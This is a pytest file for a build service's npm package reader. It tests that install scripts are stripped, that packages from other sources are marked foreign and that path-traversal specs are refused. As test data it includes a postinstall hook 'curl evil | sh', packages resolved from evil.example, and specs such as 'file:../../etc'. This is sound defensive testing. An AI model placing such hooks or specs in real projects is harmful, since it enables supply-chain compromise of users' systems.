"""Node projects: what is handed to npm is written anew, and nothing in it leads out of the folder."""

from __future__ import annotations

import json
from typing import Any

import pytest

from builderd.code.model import BundleFile, folder_of, make_bundle
from builderd.core.errors import InstallFailed
from builderd.dependencies.installers.npm import NodePackages, read_packages

REGISTRY = "https://registry.npmjs.org/"


def read(package: Any, lock: Any = None, **files: str) -> NodePackages | None:
    given = [BundleFile("package.json", json.dumps(package).encode())]
    if lock is not None:
        given.append(BundleFile("package-lock.json", json.dumps(lock).encode()))
    given += [BundleFile(name, text.encode()) for name, text in files.items()]
    return read_packages(make_bundle(given), None)


def lock(**packages: Any) -> dict[str, Any]:
    return {"lockfileVersion": 3, "packages": {"": {}, **packages}}


def test_scripts_and_configuration_do_not_reach_npm() -> None:
    found = read(
        {"name": "x", "scripts": {"postinstall": "curl evil | sh"}, "config": {}, "dependencies": {"express": "^4"}}
    )
    assert found is not None
    assert json.loads(found.manifest) == {
        "name": "app",
        "version": "0.0.0",
        "private": True,
        "dependencies": {"express": "^4"},
    }
    assert (found.lock, found.foreign) == (None, False)


@pytest.mark.parametrize("package", [{}, {"devDependencies": {"jest": "1"}}, {"dependencies": {}}, {"type": "module"}])
def test_project_without_dependencies_has_no_plan(package: Any) -> None:
    assert read(package) is None


@pytest.mark.parametrize("spec", ["^4.18.0", ">=1 <2", "latest", "*", "", "1.2.3 - 2", "npm:@other/name@^2"])
def test_versions_of_the_registry_are_shared(spec: str) -> None:
    found = read({"dependencies": {"a": spec}})
    assert found is not None
    assert not found.foreign


@pytest.mark.parametrize("spec", ["https://x.example/a.tgz", "git+https://x.example/a", "github:a/b", "a/b#main"])
def test_code_from_elsewhere_is_the_tenants_own(spec: str) -> None:
    found = read({"dependencies": {"a": spec}})
    assert found is not None
    assert found.foreign


def test_a_lock_that_fetches_from_elsewhere_is_the_tenants_own() -> None:
    near, far = {"resolved": f"{REGISTRY}a/-/a-1.tgz"}, {"resolved": "https://evil.example/a.tgz"}
    kept = [read({"dependencies": {"a": "1"}}, lock(**{"node_modules/a": one})) for one in (near, far)]
    assert [one and one.foreign for one in kept] == [False, True]


@pytest.mark.parametrize(
    ("overrides", "foreign"),
    [
        ({"ms": "2.1.3"}, False),
        ({"ms@^2": {".": "2.1.3", "@a/b": "$a"}}, False),
        ({"ms": "git+https://evil.example/ms.git"}, True),
        ({"debug": {"x": {"ms": "evil/ms#0123456789012345678901234567890123456789"}}}, True),
        ({"debug": {".": "https://evil.example/debug.tgz"}}, True),
    ],
)
def test_overrides_are_checked_like_dependencies(overrides: Any, foreign: bool) -> None:
    found = read({"dependencies": {"a": "1"}, "overrides": overrides})
    assert found is not None
    assert found.foreign is foreign
    assert json.loads(found.manifest)["overrides"] == overrides


@pytest.mark.parametrize(
    ("package", "locked", "why"),
    [
        ([], None, "JSON object"),
        ({"dependencies": ["a"]}, None, "must be an object"),
        ({"dependencies": {"../a": "1"}}, None, "no name of a package"),
        ({"dependencies": {"a": "file:../../etc"}}, None, "is refused"),
        ({"dependencies": {"a": "link:/etc"}}, None, "is refused"),
        ({"dependencies": {"a": "../x"}}, None, "is refused"),
        ({"dependencies": {"a": "http://plain.example/a.tgz"}}, None, "is refused"),
        ({"dependencies": {"a": "git+ssh://x"}}, None, "is refused"),
        ({"dependencies": {"a": 1}}, None, "is refused"),
        ({"dependencies": {"a": ".."}}, None, "is refused"),
        ({"dependencies": {"a": "1"}, "overrides": ["b"]}, None, "must be an object"),
        ({"dependencies": {"a": "1"}, "overrides": {"b": "file:../x"}}, None, "is refused"),
        ({"dependencies": {"a": "1"}, "overrides": {"b": {"c": {".": "link:/etc"}}}}, None, "is refused"),
        ({"dependencies": {"a": "1"}, "overrides": {"b": None}}, None, "is refused"),
        ({"dependencies": {"a": "1"}, "overrides": {"../b": "1"}}, None, "no name of a package"),
        ({"dependencies": {"a": "1"}, "overrides": {"b@file:../x": "1"}}, None, "no name of a package"),
        ({"dependencies": {"a": "1"}}, lock(**{"../cache/x": {}}), "outside of node_modules"),
        ({"dependencies": {"a": "1"}}, lock(**{"node_modules/../../cache": {}}), "outside of node_modules"),
        ({"dependencies": {"a": "1"}}, lock(**{"node_modules/a/../b": {}}), "outside of node_modules"),
        ({"dependencies": {"a": "1"}}, lock(**{"/etc": {}}), "outside of node_modules"),
        ({"dependencies": {"a": "1"}}, lock(**{"node_modules/a": {"link": True}}), "from a folder"),
        ({"dependencies": {"a": "1"}}, lock(**{"node_modules/a": {"resolved": "file:x"}}), "from a folder"),
        ({"dependencies": {"a": "1"}}, {"packages": []}, "damaged"),
        ({"dependencies": {"a": "1"}}, {"dependencies": {"../x": {}}}, "no name"),
        ({"dependencies": {"a": "1"}}, {"dependencies": {"a": {"version": "file:../x"}}}, "from a folder"),
    ],
)
def test_foreign_package_source_is_refused(package: Any, locked: Any, why: str) -> None:
    with pytest.raises(InstallFailed, match=why):
        read(package, locked)


def test_invalid_json_is_reported() -> None:
    for text in (b"{", b"\xff", b"[" * 100_000):
        with pytest.raises(InstallFailed, match=r"package\.json"):
            read_packages(make_bundle([BundleFile("package.json", text)]), None)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("pnpm-lock.yaml", "packages:\n  '@a/b@1.2.3':\n  c@2.0.0(d@3.0.0):\n  twice@1.0.0:\n  twice@2.0.0:\n"),
        ("pnpm-lock.yaml", "packages:\n\n  /@a/b@1.2.3:\n  /c/2.0.0:\n"),
        (
            "yarn.lock",
            '"@a/b@^1":\n  version "1.2.3"\nc@1, c@^2:\n  version "2.0.0"\nd-x@npm:d@^4:\n  version "4.2.3"\n',
        ),
        (
            "yarn.lock",
            '"@a/b@npm:^1":\n  version: 1.2.3\n"c@npm:1":\n  version: 2.0.0\n"x@workspace:.":\n  version: 0.0.0\n',
        ),
        ("bun.lock", '{"packages": {"@a/b": ["@a/b@1.2.3", "", {}], "c": ["c@2.0.0", "", {}]}}'),
    ],
)
def test_lock_of_another_tool_gives_the_versions(name: str, text: str) -> None:
    found = read({"dependencies": {"@a/b": "^1.0.0", "e": "npm:c@1"}}, **{name: text})
    assert found is not None
    manifest = json.loads(found.manifest)
    assert manifest["dependencies"] == {"@a/b": "1.2.3", "e": "npm:c@1"}
    assert manifest["overrides"] == {"c": "2.0.0"}


WORKSPACE = {
    "package.json": '{"workspaces": ["apps/*"], "devDependencies": {"typescript": "5"}, "overrides": {"x": "1"}}',
    "pnpm-workspace.yaml": "packages:\n  - apps/*\ncatalog:\n  'react': ^18\ncatalogs:\n  new:\n    vue: ^3 # of it\n",
    "package-lock.json": '{"packages": {"node_modules/y": {\n"version": "2.1.0"},'
    ' "a/node_modules/z": {"version": "1.0.0"}, "node_modules/z": {"version": "2.0.0"}}}',
    "apps/web/package.json": '{"name": "web", "dependencies": {"@r/ui": "workspace:*", "react": "catalog:", "y": "2"}}',
    "packages/ui/package.json": '{"name": "@r/ui", "dependencies": {"@r/base": "*", "vue": "catalog:new", "y": "1"}}',
    "packages/base/package.json": '{"name": "@r/base", "dependencies": {"z": "1"}}',
    "packages/unused/package.json": '{"name": "unused", "dependencies": {"q": "1"}}',
    "packages/base/fixture/package.json": "{",
}


@pytest.mark.parametrize(
    ("root", "links", "wanted"),
    [
        (
            "apps/web",
            {"@r/ui": "packages/ui", "@r/base": "packages/base"},
            {"react": "^18", "y": "2.1.0", "vue": "^3", "z": "1"},
        ),
        (
            "",
            {"web": "apps/web", "@r/ui": "packages/ui", "@r/base": "packages/base", "unused": "packages/unused"},
            {"react": "^18", "y": "2.1.0", "vue": "^3", "z": "1", "q": "1"},
        ),
    ],
)
def test_app_of_a_workspace_gets_what_the_packages_beside_it_need(
    root: str, links: dict[str, str], wanted: dict[str, str]
) -> None:
    bundle = make_bundle([BundleFile(path, text.encode()) for path, text in WORKSPACE.items()])
    found = read_packages(folder_of(bundle, root), None)
    assert found is not None
    assert (found.links, found.lock, found.foreign) == (links, None, False)
    manifest = json.loads(found.manifest)
    assert manifest["dependencies"] == wanted
    assert (manifest["devDependencies"], manifest["overrides"]) == ({"typescript": "5"}, {"x": "1"})
